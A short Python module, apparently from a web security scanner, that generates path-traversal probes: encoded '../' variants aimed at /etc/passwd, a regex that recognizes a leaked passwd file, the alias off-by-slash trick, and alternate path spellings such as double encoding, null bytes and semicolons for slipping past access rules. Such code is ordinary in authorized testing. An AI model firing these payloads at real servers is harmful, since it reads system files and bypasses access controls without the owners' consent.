"""Spells paths as attackers do: dot segments, encodings and separators that one program reads and the next one reads otherwise."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

UP = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%252e%252e%252f", "....//", "..;/", ".%2e/")
DEPTH = 6
_PASSWD = re.compile(rb"^root:[^:\n]*:0:0:", re.MULTILINE)


def folders(paths: Iterable[str]) -> list[str]:
    """The folders that paths are in, each ending in a slash: `/`, and the first segment of each."""
    found = ["/"]
    found += [f"/{path.strip('/').split('/')[0]}/" for path in paths if path.strip("/")]
    return list(dict.fromkeys(found))


def to_passwd(folder: str) -> Iterator[str]:
    """Ways from a folder to /etc/passwd."""
    for up in UP:
        yield f"{folder}{up * DEPTH}etc/passwd"
    yield f"{folder.rstrip('/')}..{'/..' * DEPTH}/etc/passwd"


def is_passwd(body: bytes) -> bool:
    """Whether a body is the host's list of accounts."""
    return bool(_PASSWD.search(body))


def out_and_in(path: str) -> str | None:
    """`/static/x` as `/static../static/x`, which only an alias without its slash takes for the same; None without a folder."""
    first, slash, rest = path.strip("/").partition("/")
    return f"/{first}../{first}/{rest}" if slash and rest else None


def spellings(path: str) -> list[str]:
    """Other ways to write a path that mean the same to some program on its way, the plain one left out."""
    bare = path.lstrip("/")
    first = f"%{ord(bare[0]):02x}{bare[1:]}" if bare else bare
    found = [
        f"//{bare}", f"/./{bare}", f"/x/../{bare}", f"/x/..%2f{bare}", f"/%2e/{bare}", f"/x/..;/{bare}", f"/{first}", f"/{bare}/", f"/{bare};x=1",
        f"/{bare}%00", f"/{bare}%20", f"/{bare}?x=1", f"/{bare}#x", f"/{bare.upper()}", f"/%252e%252e/{bare}", f"/{bare}/.", f"/{bare}.json",
    ]  # fmt: skip
    return [spelling for spelling in dict.fromkeys(found) if spelling != path]
